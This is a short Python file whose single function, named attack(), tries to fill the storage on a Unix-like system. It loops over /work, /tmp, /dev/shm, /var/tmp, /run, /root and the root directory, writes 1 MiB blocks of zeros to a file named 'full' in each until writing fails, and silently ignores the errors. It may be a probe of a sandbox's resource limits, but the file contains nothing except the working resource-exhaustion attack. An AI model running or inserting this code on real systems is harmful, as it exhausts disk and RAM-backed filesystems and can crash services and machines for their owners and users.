import os


def attack():
    for folder in ("/work", "/tmp", "/dev/shm", "/var/tmp", "/run", "/root", "/"):
        try:
            with open(f"{folder}/full", "wb", 0) as file:
                while True:
                    file.write(bytes(1 << 20))
        except OSError:
            pass
